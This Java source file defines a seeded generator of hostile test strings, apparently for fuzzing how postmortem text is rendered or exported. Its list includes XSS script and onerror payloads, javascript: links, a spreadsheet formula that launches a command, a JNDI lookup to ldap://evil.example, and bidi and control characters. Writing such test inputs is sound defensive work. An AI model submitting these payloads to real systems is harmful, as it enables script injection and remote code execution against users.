package dev.tocsin.postmortem;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Hostile texts drawn from a seed, each with a mark of its own by which it is found again. */
final class Nasty {
    private static final String[] PIECES = {
        "<script>alert(1)</script>",
        " <script",
        "</title><script>",
        "</style>",
        "<img src=x onerror=alert(1)>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml",
        "\" onmouseover=\"x",
        "' style='x",
        "&lt;b&gt;",
        "&amp;",
        "&#60;",
        "&#x3c;",
        "&",
        "\"",
        "'",
        "[a](javascript:alert(1))",
        "](javascript",
        "![a](http://evil.example/p.png)",
        "<http://evil.example>",
        "[a]: http://evil.example",
        "http://evil.example/a",
        "https://evil.example/a",
        "www.evil.example",
        "mailto:a@evil.example",
        "a@evil.example",
        "[^1]",
        "[x]",
        "\n# h",
        "\n- item",
        "\n+ item",
        "\n* item",
        "\n1. one",
        "\n1) one",
        "\n> quote",
        "\n```\ncode",
        "\n~~~\ncode",
        "\n    code",
        "\n\tcode",
        "\n---",
        "\n===",
        "\n***",
        "\n___",
        "\n| a | b |\n|---|---|",
        "\n:--|--:",
        "\n<",
        "\n<div>\n",
        "\n\n",
        "\n",
        "\r",
        "\r\n",
        "\t",
        "**b**",
        "*",
        "_i_",
        "__",
        "~~s~~",
        "`c`",
        "``",
        "$x$",
        "\\",
        "\\\\",
        "\\|",
        "\\`",
        "|",
        "||",
        "{{x}}",
        "{% x %}",
        "{#id}",
        "#1",
        "@all",
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "\n=HYPERLINK(\"http://evil.example\")",
        "\n@x",
        "\uff1d1",
        "\n\uff0b1",
        "\u202e",
        "\u202a",
        "\u202c",
        "\u2066",
        "\u2067",
        "\u2069",
        "\u2028",
        "\u2029",
        "\u200e",
        "\u200f",
        "\u061c",
        "\ufeff",
        "\u200b",
        "\u2060",
        "\u00ad",
        "\u0000",
        "\u0007",
        "\u001b[31m",
        "\u007f",
        "\u0085",
        "\u009b",
        "\u000b",
        "\f",
        "\ud800",
        "\udc00",
        "\ufffe",
        "\uffff",
        "{}",
        "%s",
        "%n",
        "${jndi:ldap://evil.example/a}",
        "$1",
        " ",
        "  ",
        "\u00a0",
        "\u3000",
        "\u65e5\u672c",
        "\ud83d\udd25",
        "\u05d0",
        "word"
    };

    private final long seed;
    private final Random random;
    private final List<String> drawn = new ArrayList<>();

    Nasty(long seed) {
        this.seed = seed;
        random = new Random(seed);
    }

    long seed() {
        return seed;
    }

    /** All texts that were drawn. */
    List<String> drawn() {
        return List.copyOf(drawn);
    }

    static String mark(int at) {
        return "zq" + at + "qz";
    }

    String text() {
        int size = 1 + random.nextInt(6);
        int marked = random.nextInt(size + 1);
        StringBuilder text = new StringBuilder();
        for (int i = 0; i <= size; i++) {
            text.append(i == marked ? mark(drawn.size()) : PIECES[random.nextInt(PIECES.length)]);
        }
        drawn.add(text.toString());
        return text.toString();
    }
}
